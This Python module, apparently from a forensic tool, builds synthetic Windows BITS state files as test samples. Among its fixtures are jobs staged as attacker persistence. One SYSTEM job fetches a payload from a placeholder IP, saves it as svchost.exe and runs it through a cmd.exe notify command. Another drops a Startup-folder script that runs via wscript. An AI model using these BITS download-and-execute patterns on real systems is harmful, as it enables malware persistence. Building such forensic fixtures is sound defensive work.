"""Assemble legacy state files (qmgr0.dat / qmgr1.dat) from Job objects or real job records.

No public legacy state file with jobs exists, so the project builds its own, with the
same construct schemas the reader parses (bitsdb.formats.legacy). Everything built
here is synthetic and must be labelled so.
"""

from __future__ import annotations

import uuid
from dataclasses import replace
from pathlib import Path
from typing import Any, Sequence, Union

from ..decode import build_security_descriptor, encode_file, job_to_sections
from ..formats import file as file_fmt
from ..formats import job as job_fmt
from ..formats import legacy as fmt
from ..formats.markers import LEGACY_PREFIX_WIN7, LEGACY_PREFIX_WIN10
from ..model import (ErrorContext, FileRange, Job, JobError, JobFile, JobPriority, JobState, JobType, ProxyUsage,
                    SecurityInfo, Timer)
from ..timeutil import iso_to_filetime

#: version -> (job marker, prefix GUID, prefix size)
VERSIONS: dict[str, tuple[bytes, bytes, int]] = {
    "win7": (fmt.WIN7_JOB_MARKER, LEGACY_PREFIX_WIN7, 16),
    "win10": (fmt.WIN10_JOB_MARKER, LEGACY_PREFIX_WIN10, 24),
}
#: The real empty state file is 16 KiB of which 148 bytes are used; BITS pads with zeros.
DEFAULT_FILE_SIZE = 16384

#: A job to put in a queue: a Job, or the bytes of an existing job record (kept verbatim).
QueueItem = Union[Job, bytes]


def legacy_file_values(jf: JobFile) -> dict[str, Any]:
    """Values for LegacyFileRecord.build: the body and progress block encode_file would write."""
    if jf.partial:
        raise ValueError(f"cannot build a partial file record ({jf.local_name})")
    blob = file_fmt.EseFileBlob.parse(encode_file(replace(jf, layout="download")))
    return dict(body=blob.body, progress=blob.progress_a)


def _error_values(error: JobError) -> dict[str, Any]:
    """A 25-byte record (ANSSI's legacy layout) for errors whose form is 25."""
    u = error.unknown
    return dict(code=u.get("code", error.hresult or 0), err_unk_a=u.get("err_unk_a", 0),
                err_unk_b=u.get("err_unk_b", 0), err_unk_c=u.get("err_unk_c", 0),
                err_unk_d=u.get("err_unk_d", 0), err_unk_e=u.get("err_unk_e", 0))


def _tail_values(job: Job, marker: bytes, ese_trailer: dict[str, Any]) -> Any:
    schema = fmt.tail_schema(marker)
    if isinstance(schema, fmt.BytesUntil):
        return bytes.fromhex(job.unknown.get("legacy_tail", ""))
    values = {name: ese_trailer[name] for name in ("unk_c0", "unk_c1", "cost_flags", "zeros42")}
    values["unk_l1"] = job.unknown.get("unk_l1", 1)
    return values


def encode_legacy_job(job: Job, version: str = "win10") -> bytes:
    """A legacy job record (header .. footer) for `job`; its marker wins over `version`."""
    marker = uuid.UUID(job.marker).bytes_le if job.marker else VERSIONS[version][0]
    values = job_to_sections(job)
    values["header"]["marker"] = marker
    values["file_list"] = dict(files=[legacy_file_values(f) for f in job.files])
    values["trailer"] = _tail_values(job, marker, values["trailer"])
    sections = list(fmt.legacy_job_sections(marker))
    if job.errors and all(e.form == 25 for e in job.errors):
        sections[4] = ("errors", job_fmt.ErrorSection25)
        values["errors"] = dict(records=[_error_values(e) for e in job.errors])
    return b"".join(schema.build(values[name]) for name, schema in sections) + marker


def build_state_file(jobs: Sequence[QueueItem], version: str = "win10", *, queue2: Sequence[QueueItem] = (),
                     os_guid: bytes | None = None, slack: bytes = b"",
                     size: int | None = DEFAULT_FILE_SIZE) -> bytes:
    """A whole state file: prefix, both queues, trailer (+ CRC32 on win10), then slack.

    `slack` is written right after the trailer (remnants of older states); the file is
    then zero-padded to `size` bytes (None: no padding).
    """
    if version not in VERSIONS:
        raise ValueError(f"unknown legacy version {version!r} (known: {', '.join(VERSIONS)})")
    marker, prefix_guid, prefix_size = VERSIONS[version]

    def records(items: Sequence[QueueItem]) -> list[dict[str, bytes]]:
        return [dict(data=bytes(item) if isinstance(item, (bytes, bytearray)) else encode_legacy_job(item, version))
                for item in items]

    guid = prefix_guid if os_guid is None else bytes(os_guid)
    body = dict(os_guid=guid, prefix_extra=bytes(prefix_size - 16),
                queues=[dict(jobs=records(jobs)), dict(jobs=records(queue2))], trailer_guid=guid)
    data = fmt.LegacyStateFile.build(dict(body=dict(value=body), crc=None), prefix_size=prefix_size) + slack
    if size is not None and len(data) < size:
        data += bytes(size - len(data))
    return data


# --------------------------------------------------------------------------- synthetic samples
# samples/legacy/<version>/qmgr0.dat (previous state) + qmgr1.dat (current state).

DAY = 86400 * 10**7
USER_SID = "S-1-5-21-1111111111-2222222222-3333333333-1001"
VOLUME = "\\\\?\\Volume{5c1d0f6a-0000-0000-0000-100000000000}\\"


def _t(text: str) -> int:
    return iso_to_filetime(text)


def _file(local: str, remote: str, temp: str, done: int, total: int, last_modified: str | None,
          ranges: Sequence[tuple[int, int]] = ()) -> JobFile:
    return JobFile(file_id=None, local_name=local, remote_name=remote, temp_name=temp, bytes_transferred=done,
                   bytes_total=total, drive=local[:3], volume=VOLUME, local_attributes=0x80,
                   ranges=[FileRange(offset=o, length=n) for o, n in ranges], layout="legacy_inline",
                   remote_last_modified=_t(last_modified) if last_modified else 0,
                   unknown={"unk_f2": 0x5EED0000 + len(local)})


def _job(job_id: str, name: str, owner: str, state: JobState, created: str, modified: str,
         files: Sequence[JobFile], **fields: Any) -> Job:
    system = owner in ("S-1-5-18", "S-1-5-19", "S-1-5-20")
    mtime = _t(modified)
    job = Job(job_id=job_id, type=JobType.DOWNLOAD, priority=fields.pop("priority", JobPriority.NORMAL),
              state=state, display_name=name, description=fields.pop("description", ""),
              notify_program=fields.pop("notify_program", ""), notify_parameters=fields.pop("notify_parameters", ""),
              notify_flags=3, owner_sid=owner, files=list(files), transient_error_count=0,
              min_retry_delay=600, no_progress_timeout=1_209_600, creation_time=_t(created), modification_time=mtime,
              modification_time_2=mtime, completion_time=mtime if state == JobState.TRANSFERRED else 0,
              inactivity_base_time=mtime, expiration_time=mtime + 90 * DAY, proxy_usage=ProxyUsage.PRECONFIG,
              file_acl_flags=0, security_flags=0, max_download_time=7_776_000, cost_flags=0x80000067)
    rid = 0x4000 if system else 0x2000
    job.security = SecurityInfo(owner_integrity_rid=rid, owner_integrity_level=None, token_unknown=[],
                                raw=build_security_descriptor(owner, rid))
    job.unknown = {"tok_unk0": int(system), "tok_unk2": 0, "tok_unk3": 1, "tok_unk4": 0x48386DF2,
                   "unk_c0": 0, "unk_c1": 0, "unk_l1": 1}
    for key, value in fields.items():
        setattr(job, key, value)
    return job


def _persistence_job(state: JobState, modified: str, errors: Sequence[JobError]) -> Job:
    """SYSTEM-owned job whose notify command runs the payload it fetches (T1197)."""
    return _job("7e5a1c2d-9b3f-4e61-a0d4-2f8c61b9d0aa", "WindowsUpdateCheck", "S-1-5-18", state,
                "2017-03-06T11:12:58.8642970+00:00", modified,
                [_file(r"c:\programdata\msupd\svchost.exe", "http://203.0.113.7:8080/a/u.bin",
                       r"c:\programdata\msupd\BIT3F2A.tmp", 0, -1, None)],
                notify_program=r"c:\windows\system32\cmd.exe",
                notify_parameters=r"cmd.exe /c c:\programdata\msupd\svchost.exe & bitsadmin /resume WindowsUpdateCheck",
                priority=JobPriority.FOREGROUND, errors=list(errors), min_retry_delay=60,
                no_progress_timeout=365 * 86400)


def _updater_job(state: JobState, modified: str, done: int) -> Job:
    total = 48_234_496
    return _job("266504ac-0000-4000-8000-5a3e1e000001", "Contoso Agent Update", USER_SID, state,
                "2017-03-06T10:02:11.1000000+00:00", modified,
                [_file(r"C:\Users\alice\AppData\Local\Contoso\agent-4.2.msi",
                       "https://download.contoso.example/agent/4.2/agent-4.2.msi",
                       r"C:\Users\alice\AppData\Local\Contoso\BIT1A2B.tmp", done, total,
                       "2017-03-01T08:00:00+00:00")],
                description="Contoso agent background download")


def _gone_job() -> Job:
    """In the previous state only: transferred, acknowledged and removed since (evidence of use)."""
    return _job("b1e55ed0-5eed-4c0d-9a1b-0000000000e5", "backup", USER_SID, JobState.TRANSFERRED,
                "2017-03-06T11:40:00.0000000+00:00", "2017-03-06T11:41:07.2500000+00:00",
                [_file(r"C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\sync.js",
                       "http://paste.example.net/raw/x7Qz", r"C:\Users\alice\AppData\Roaming\Microsoft\Windows"
                       r"\Start Menu\Programs\Startup\BIT77C1.tmp", 1_337, 1_337, "2017-03-05T23:59:59+00:00")],
                notify_program=r"C:\Windows\System32\wscript.exe",
                notify_parameters=r"wscript.exe //B %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\sync.js")


def _ranged_job() -> Job:
    """Two files, one with byte ranges; a transient DNS error and a pending retry timer."""
    modified = "2017-03-06T12:00:00.0000000+00:00"
    job = _job("5c26fc39-0647-43cf-bd6b-0000000000aa", "Contoso Map Tiles", USER_SID, JobState.TRANSIENT_ERROR,
               "2017-03-06T11:58:30.0000000+00:00", modified,
               [_file(r"C:\Users\alice\Maps\tiles-0.bin", "http://tiles.contoso.example/t/0.bin",
                      r"C:\Users\alice\Maps\BIT0001.tmp", 0, 4096 * 3, "2017-02-28T10:00:00+00:00",
                      ranges=[(0, 4096), (8192, -1)]),
                _file(r"C:\Users\alice\Maps\tiles-1.bin", "http://tiles.contoso.example/t/1.bin",
                      r"C:\Users\alice\Maps\BIT0002.tmp", 0, -1, None)],
               errors=[JobError(hresult=0x80072EE7, hresult_hex="0x80072EE7", context=ErrorContext.REMOTE_FILE,
                                form=21, unknown={"err_unk0": 0, "err_unk2": 1, "err_unk4": 3, "has_extra": 0})],
               transient_error_count=1, proxy_usage=ProxyUsage.OVERRIDE, proxy_list="http=proxy.contoso.example:3128",
               proxy_bypass="<local>")
    job.timers = [Timer(slot="retry", start=_t(modified), end=_t(modified) + 600 * 10**7)]
    return job


def legacy_samples(version: str) -> dict[str, bytes]:
    """The two state files of one synthetic machine: qmgr0.dat previous, qmgr1.dat current."""
    http_404 = JobError(hresult=0x80190194, hresult_hex="0x80190194", context=None, form=25 if version == "win7" else 21,
                        unknown={"code": 0x80190194, "err_unk_a": 0, "err_unk_b": 0, "err_unk_c": 0, "err_unk_d": 0,
                                 "err_unk_e": 0} if version == "win7" else
                        {"err_unk0": 0, "err_unk2": 1, "err_unk4": 4, "has_extra": 0})
    if version == "win10":
        http_404.context = ErrorContext.REMOTE_FILE
    persistence = _persistence_job(JobState.ERROR, "2017-03-06T11:13:05.0000000+00:00", [http_404])
    previous = [_updater_job(JobState.TRANSFERRING, "2017-03-06T10:30:00.0000000+00:00", 19_293_798),
                persistence, _gone_job()]
    current = [_updater_job(JobState.TRANSFERRED, "2017-03-06T12:15:42.5000000+00:00", 48_234_496), persistence]
    slack = b""
    if version == "win10":
        current.append(_ranged_job())
        # remnant of an older, longer state: the last 256 bytes of a job record
        slack = encode_legacy_job(_gone_job(), version)[-256:]
    return {"qmgr0.dat": build_state_file(previous, version),
            "qmgr1.dat": build_state_file(current, version, slack=slack)}


def write_legacy_samples(folder: str | Path) -> list[Path]:
    """(Re)write samples/legacy/<version>/qmgr{0,1}.dat under `folder`."""
    written = []
    for version in VERSIONS:
        target = Path(folder) / version
        target.mkdir(parents=True, exist_ok=True)
        for name, data in legacy_samples(version).items():
            (target / name).write_bytes(data)
            written.append(target / name)
    return written


__all__ = ["encode_legacy_job", "build_state_file", "legacy_file_values", "legacy_samples", "write_legacy_samples",
           "VERSIONS", "DEFAULT_FILE_SIZE"]
